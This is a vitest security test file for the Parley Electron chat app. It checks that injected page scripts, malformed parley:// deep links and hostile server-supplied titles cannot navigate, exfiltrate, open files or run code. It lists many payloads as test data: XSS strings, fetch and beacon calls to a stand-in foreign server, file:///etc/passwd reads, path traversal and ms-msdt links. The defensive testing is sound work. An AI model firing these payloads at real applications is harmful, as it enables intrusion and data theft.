import { once } from "node:events";
import { writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { findBrowser } from "../support/browser.ts";
import { HAS_RUNTIME, openDesktop } from "../support/desktop-app.ts";
import type { DesktopApp } from "../support/desktop-host/desktop-app-type.ts";
import { askInPage } from "../support/desktop-steps.ts";
import { naughtyStrings } from "../support/hostile-strings.ts";
import { ServerProcess } from "../support/server-process.ts";
import { openTempDir, type TempDir } from "../support/temp-dir.ts";

const canRun = HAS_RUNTIME || findBrowser() !== null;

let folder: TempDir;
let app: DesktopApp;
/** Somebody else's server: whatever reaches it got out of the app. */
const reached: string[] = [];
const foreign = createServer((request, response) => {
	reached.push(request.url ?? "");
	response.setHeader("access-control-allow-origin", "*").end("window.broken = 1");
});
let foreignUrl = "";

/** Notes all that would act upon the world or ask the person; every question stays open until `answer` is set. */
async function noteActs(target: DesktopApp): Promise<void> {
	await target.evaluate((electron) => {
		const acts: string[] = [];
		const asked: { readonly message: string; readonly detail?: string }[] = [];
		const shown: { readonly title: string; readonly body: string }[] = [];
		Object.assign(globalThis, { acts, asked, shown, answer: null });
		electron.shell.openExternal = async (address: string) => void acts.push(address);
		electron.shell.openPath = async (path: string) => {
			acts.push(path);
			return "";
		};
		const ask = (options: { readonly message: string; readonly detail?: string }) => {
			asked.push(options);
			const { answer } = globalThis as unknown as { answer: number | null };
			return answer === null ? new Promise(() => {}) : Promise.resolve({ response: answer });
		};
		Object.assign(electron.dialog, { showMessageBox: ask });
		electron.Notification.prototype.show = function show() {
			shown.push({ title: this.title, body: this.body });
		};
	}, null);
}

type Noted = {
	readonly acts: readonly string[];
	readonly asked: readonly { readonly message: string; readonly detail?: string }[];
	readonly shown: readonly { readonly title: string; readonly body: string }[];
};
const readNoted = (target: DesktopApp): Promise<Noted> =>
	target.evaluate(() => {
		const { acts, asked, shown } = globalThis as unknown as Noted;
		return { acts, asked, shown };
	}, null);
const readWindows = (target: DesktopApp) =>
	target.evaluate(
		(electron) => electron.BrowserWindow.getAllWindows().map((window) => window.webContents.getURL()),
		null,
	);

beforeAll(async () => {
	if (!canRun) return;
	foreign.listen(0, "127.0.0.1");
	await once(foreign, "listening");
	foreignUrl = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}`;
	folder = await openTempDir();
	app = await openDesktop({ userData: folder.path });
	await noteActs(app);
});
afterAll(async () => {
	foreign.close();
	foreign.closeAllConnections();
	await app?.[Symbol.asyncDispose]();
	await folder?.[Symbol.asyncDispose]();
});

/** What a script that got into the page could try. `$` stands for somebody else's server. */
const ATTEMPTS: readonly string[] = [
	...["href = '$/a'", "assign('$/b')", "replace('$/c')", "href = 'javascript:window.broken=1'"].map(
		(step) => `location.${step}`,
	),
	...[
		"$/d",
		"file:///etc/passwd",
		"javascript:opener.broken=1",
		"data:text/html,<script>opener.broken=1</script>",
		"parley://ask?text=x",
		"app://evil/index.html",
		"app://parley/../../etc/passwd",
		"smb://host/share",
		"ms-msdt:/id PCWDiagnostic",
		"vscode://file/x",
		"tel:123",
		"blob:null/x",
		"chrome://settings",
		"devtools://devtools/bundled/inspector.html",
		"view-source:$/e",
	].flatMap((address) => [
		`window.open(${JSON.stringify(address)})`,
		`location.href = ${JSON.stringify(address)}`,
	]),
	"window.open('about:blank')?.document.write('<script>opener.broken=1</script>')",
	...[
		"iframe",
		"frame",
		"embed",
		"object",
		"portal",
		"webview",
		"img",
		"script",
		"video",
		"audio",
		"source",
	].map(
		(tag) =>
			`const x = document.createElement('${tag}'); x.src = x.data = '$/${tag}'; x.setAttribute('src', '$/${tag}2'); document.body.append(x)`,
	),
	"const x = document.createElement('iframe'); x.srcdoc = '<script>parent.broken=1</script><img src=$/f>'; document.body.append(x)",
	"const x = document.createElement('iframe'); x.src = 'data:text/html,<script>parent.postMessage(1)</script>'; document.body.append(x)",
	...["stylesheet", "preload", "prefetch", "modulepreload", "icon", "manifest", "preconnect", "import"].map(
		(rel) =>
			`const x = document.createElement('link'); x.rel = '${rel}'; x.as = 'script'; x.href = '$/${rel}'; document.head.append(x)`,
	),
	"const x = document.createElement('base'); x.href = '$/base/'; document.head.append(x); const y = document.createElement('img'); y.src = 'relative.png'; document.body.append(y)",
	"const x = document.createElement('meta'); x.httpEquiv = 'refresh'; x.content = '0;url=$/g'; document.head.append(x)",
	"const x = document.createElement('meta'); x.httpEquiv = 'Content-Security-Policy'; x.content = 'script-src *'; document.head.append(x)",
	...["get", "post"].flatMap((method) =>
		["_self", "_blank", "_top"].map(
			(target) =>
				`const x = document.createElement('form'); x.action = '$/form'; x.method = '${method}'; x.target = '${target}'; document.body.append(x); x.submit()`,
		),
	),
	"const x = document.createElement('a'); x.href = '$/h'; document.body.append(x); x.click()",
	"const x = document.createElement('a'); x.href = '$/i'; x.target = '_blank'; document.body.append(x); x.click()",
	"const x = document.createElement('a'); x.href = '$/j'; x.ping = '$/ping'; document.body.append(x); x.click()",
	"fetch('$/k')",
	"fetch('$/l', { mode: 'no-cors', method: 'POST', body: 'x' })",
	"fetch('file:///etc/passwd').then(() => { window.broken = 1 })",
	"navigator.sendBeacon('$/m', 'x')",
	"new EventSource('$/n')",
	"new WebSocket('$/o'.replace('http', 'ws'))",
	"const x = new XMLHttpRequest(); x.open('GET', '$/p'); x.send()",
	"import('$/q')",
	"importScripts('$/r')",
	"new Worker('$/s')",
	"new Worker(URL.createObjectURL(new Blob(['fetch(\"$/t\")'])))",
	"new SharedWorker('data:text/javascript,fetch(\"$/u\")')",
	"navigator.serviceWorker.register('$/v')",
	"new Image().src = '$/w'",
	"new FontFace('x', 'url($/x)').load()",
	"document.body.style.backgroundImage = 'url($/y)'",
	"eval('window.broken = 1')",
	"new Function('window.broken = 1')()",
	"setTimeout('window.broken = 1', 0)",
	"const x = document.createElement('script'); x.textContent = 'window.broken = 1'; document.body.append(x)",
	"document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.broken=1><svg onload=window.broken=1>')",
	"document.body.setAttribute('onclick', 'window.broken=1'); document.body.click()",
	"const x = document.createElement('a'); x.href = 'javascript:window.broken=1'; document.body.append(x); x.click()",
	"navigator.registerProtocolHandler('web+x', '$/%s')",
	"Notification.requestPermission().then((x) => { if (x === 'granted') window.broken = 1 })",
	"navigator.clipboard.readText().then(() => { window.broken = 1 })",
	"navigator.mediaDevices.getDisplayMedia().then(() => { window.broken = 1 })",
	// Where a browser that stands in for the app grants it, it has its hands full with the pointer until it is let go.
	"document.documentElement.requestPointerLock().finally(() => document.exitPointerLock())",
	"desktop.constructor.constructor('window.broken = 1')()",
	"desktop.readSettings.constructor('window.broken = 1')()",
	"desktop.announce({ title: 'x', body: 'y', route: 'javascript:window.broken=1' })",
	"desktop.checkServer({ url: 'file:///etc/passwd', userId: 'x' })",
	"desktop.saveProvider({ baseUrl: 'javascript:1', model: null })",
];

test.skipIf(!canRun)(
	`a page with somebody else's script in it opens, runs and reaches nothing (${ATTEMPTS.length} attempts)`,
	async () => {
		const page = await app.window();
		const before = await readWindows(app);
		// In a task of its own, since what is evaluated from outside is free of the page's policy until it returns.
		for (const attempt of ATTEMPTS) {
			const source = attempt.replaceAll("$", foreignUrl);
			await page
				.evaluate(
					`new Promise((done) => setTimeout(() => { done(); const r = (() => { ${source} })(); r?.catch?.(() => {}) }, 0))`,
				)
				.catch(() => {});
			await page.waitForLoadState("load");
		}
		await page.waitForTimeout(500);
		const { acts, asked, shown } = await readNoted(app);
		expect({ acts, asked, shown, reached }).toEqual({ acts: [], asked: [], shown: [], reached: [] });
		expect(await readWindows(app)).toEqual(before);
		expect(await page.evaluate(() => (window as unknown as { broken?: number }).broken)).toBeUndefined();
		await page.reload();
		await page.getByRole("textbox", { name: "Message", exact: true }).waitFor();
	},
);

/** Links of which none may do or ask anything. */
const BAD_LINKS: readonly string[] = [
	...[
		"",
		"parley",
		"parley:",
		"parley:/",
		"parley://",
		"parley:///",
		"parley://?text=x",
		"parley:ask?text=x",
	],
	...[
		"javascript:alert(1)",
		"https://evil.example/",
		"file:///etc/passwd",
		"app://parley/index.html",
		" parley://ask",
	],
	...[
		"delete",
		"settings",
		"open",
		"run",
		"exec",
		"install",
		"update",
		"quit",
		"logs",
		"connect",
		"server",
	].map((verb) => `parley://${verb}?text=x&url=https://evil.example&path=/etc/passwd`),
	...["ask", "show"].flatMap((verb) => [
		`parley://user@${verb}?text=x`,
		`parley://user:password@${verb}?text=x`,
		`parley://:password@${verb}?text=x`,
		`parley://${verb}:80?text=x`,
		`parley://${verb}/../../etc/passwd?text=x`,
		`parley://${verb}/%2e%2e/%2e%2e/x?text=x`,
		`parley://${verb}//evil.example?text=x`,
		`parley://${verb}.evil.example?text=x`,
		`parley://${verb}%00?text=x`,
		`parley://${verb}%0d%0a?text=x`,
		`parley://${verb}\\..\\x?text=x`,
		`parley://${verb}/index.html#/chat/1`,
		`parley://a${verb}?text=x`,
		`parley://javascript:alert(1)/${verb}?text=x`,
	]),
	...[
		"",
		"%20",
		"%00",
		"%E2%80%AE",
		"%F3%A0%81%81%F3%A0%81%82",
		"%0A%0A%09",
		"%ED%A0%80".slice(0, 0),
		"&",
	].map((text) => `parley://ask?text=${text}`),
	`parley://ask?text=${"x".repeat(4001)}`,
	`parley://ask?text=${"x".repeat(1_000_000)}`,
	`parley://ask?${"a=b&".repeat(20_000)}`,
	`parley://${"a".repeat(100_000)}`,
	"parley://ask?TEXT=x",
	"parley://ask?text[]=x",
	"parley://ask#text=x",
	"parley://ask;text=x",
];

/** Links that may ask, whatever stands in them. */
const ODD_TEXTS: readonly string[] = [
	...naughtyStrings().filter((text) => [...text].length < 200 && text.isWellFormed()),
	"<script>window.broken=1</script>",
	"Pay \u202e001\u202c €",
	`visible${"\n".repeat(500)}hidden below`,
	`Z${"\u0310".repeat(500)}`,
	"line\n".repeat(300),
];

const follow = (address: string) =>
	app.evaluate(
		(electron, link) => void electron.app.emit("open-url", { preventDefault() {} }, link),
		address,
	);
const setAnswer = (answer: number | null) =>
	app.evaluate((_electron, value) => void Object.assign(globalThis, { answer: value }), answer);

test.skipIf(!canRun)(`links of nobody's grammar do and ask nothing (${BAD_LINKS.length})`, async () => {
	const before = (await readNoted(app)).asked.length;
	for (const link of BAD_LINKS) {
		await follow(link);
		await app.evaluate(
			(electron, arg) => void electron.app.emit("second-instance", {}, ["parley", arg], "/"),
			link,
		);
	}
	const { acts, asked } = await readNoted(app);
	expect(acts).toEqual([]);
	expect(asked.slice(before)).toEqual([]);
});

test.skipIf(!canRun)(
	`a link with any text asks first, in words that can be read, and then only fills in a draft (${ODD_TEXTS.length})`,
	async () => {
		const page = await app.window();
		const composer = page.getByRole("textbox", { name: "Message", exact: true });
		for (const answer of [0, 1]) {
			await setAnswer(answer);
			const before = (await readNoted(app)).asked.length;
			for (const text of ODD_TEXTS) await follow(`parley://ask?text=${encodeURIComponent(text)}`);
			const { acts, asked, shown } = await readNoted(app);
			expect({ acts, shown }).toEqual({ acts: [], shown: [] });
			expect(asked.length).toBeGreaterThan(before + ODD_TEXTS.length / 2);
			for (const { message, detail = "" } of asked.slice(before)) {
				expect(message).toBe("A link from outside of Parley wants to fill in a message.");
				expect([...detail].length).toBeLessThan(400);
				expect(detail.split("\n").length).toBeLessThan(14);
				expect(detail).not.toMatch(/(?![\n\t])\p{Cc}|[\u202a-\u202e\u2066-\u2069\u{e0000}-\u{e01ef}]/u);
			}
			if (answer === 0) expect(await composer.inputValue()).toBe("");
		}
		await follow("parley://ask?text=the%20last%20one");
		// Behind what was written by then, which may be a person's.
		await expect.poll(() => composer.inputValue()).toMatch(/\n\nthe last one$/);
		// Nothing was sent.
		expect(await page.getByRole("article").count()).toBe(0);
		expect(await page.evaluate(() => (window as unknown as { broken?: number }).broken)).toBeUndefined();
	},
);

test.skipIf(!canRun)("a hundred links at once ask one question", async () => {
	await setAnswer(null);
	const before = (await readNoted(app)).asked.length;
	for (let i = 0; i < 100; i++) await follow(`parley://ask?text=${i}`);
	expect((await readNoted(app)).asked.slice(before).map(({ detail }) => detail?.split("\n").at(-1))).toEqual([
		"0",
	]);
});

const MARKUP = `<script>window.broken=1</script><img src=x onerror=window.broken=2><a href="https://evil.example/">x</a>`;
const HOSTILE_NAME = `${MARKUP}\u202etpircs\u202c\u0007`;

/** An AI provider that says one thing, and takes its time. */
async function openUpstream(text: string) {
	const server = createServer((_request, response) => {
		const say = (content: string) =>
			response.write(`data: ${JSON.stringify({ choices: [{ index: 0, delta: { content } }] })}\n\n`);
		response.writeHead(200, { "content-type": "text/event-stream" });
		say("Well: ");
		setTimeout(() => {
			say(text);
			response.end("data: [DONE]\n\n");
		}, 700);
	}).listen(0, "127.0.0.1");
	await once(server, "listening");
	const close = () => {
		server.close();
		server.closeAllConnections();
	};
	return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`, [Symbol.dispose]: close };
}

test.skipIf(!canRun)(
	"what a server says is text, short and readable, in the title of the window, in notifications and on the page",
	async () => {
		using upstream = await openUpstream(HOSTILE_NAME);
		await using own = await openTempDir();
		await using team = await ServerProcess.start({
			DATABASE_URL: `sqlite:///${own.path}/chat.db`,
			OPENAI_BASE_URL: upstream.url,
			SERVER_NAME: MARKUP.slice(0, 64),
		});
		writeFileSync(
			join(own.path, "settings.json"),
			JSON.stringify({ isWelcomed: true, remote: { url: team.url, userId: "ada" } }),
		);
		await using desktop = await openDesktop({ userData: own.path });
		await noteActs(desktop);
		const page = await desktop.window();
		const readTitle = () =>
			desktop.evaluate((electron) => electron.BrowserWindow.getAllWindows()[0]?.getTitle() ?? "", null);
		await askInPage(page, "first");
		const id = await page.evaluate(() => decodeURIComponent(location.hash.split("/").at(-1) ?? ""));
		const titles = [
			HOSTILE_NAME,
			`${"W\u0310\u0310\u0310\u0310\u0310\u0310".repeat(60)}`,
			"\u202e".repeat(400),
			"a\nb\u2028c",
		];
		for (const title of titles) {
			const told = await fetch(`${team.url}/api/chats/${id}?user_id=ada`, {
				method: "PATCH",
				headers: { "content-type": "application/json" },
				body: JSON.stringify({ title }),
			});
			expect(told.status).toBe(200);
			const start = [...title][0] === "\u202e" ? "" : title.slice(0, 1);
			await expect.poll(readTitle).toMatch(new RegExp(`^(?:${start}|–|Parley)`));
			await page.waitForTimeout(100);
			const shown = await readTitle();
			expect([...shown].length).toBeLessThanOrEqual(120);
			expect(shown).not.toMatch(/\p{Cc}|[\u2028-\u202e\u2066-\u2069]/u);
		}
		// The answer ends while nobody looks.
		await fetch(`${team.url}/api/chats/${id}?user_id=ada`, {
			method: "PATCH",
			headers: { "content-type": "application/json" },
			body: JSON.stringify({ title: HOSTILE_NAME }),
		});
		await page.getByRole("textbox", { name: "Message", exact: true }).fill("second");
		await desktop.evaluate((electron) => electron.BrowserWindow.getAllWindows()[0]?.hide(), null);
		await page.evaluate(() => {
			document.hasFocus = () => false;
		});
		await page.keyboard.press("Enter");
		await expect.poll(async () => (await readNoted(desktop)).shown.length, { timeout: 20_000 }).toBe(1);
		const { acts, shown } = await readNoted(desktop);
		expect(acts).toEqual([]);
		for (const { title, body } of shown) {
			expect([...title].length).toBeLessThanOrEqual(80);
			expect([...body].length).toBeLessThanOrEqual(1200);
			expect(title + body).not.toMatch(/\p{Cc}|[\u202a-\u202e]/u);
			// Desktops of Linux read the body as markup.
			if (process.platform === "linux") expect(body).not.toMatch(/[<>]/);
			expect(body).toMatch(/script/);
		}
		await page.getByRole("button", { name: "Settings" }).first().click();
		await page.getByRole("dialog").getByRole("button", { name: "Connection", exact: true }).click();
		await page
			.getByRole("dialog")
			.getByText(/<script>/)
			.waitFor();
		expect(await page.evaluate(() => (window as unknown as { broken?: number }).broken)).toBeUndefined();
		expect(await readWindows(desktop)).toHaveLength(1);
	},
);
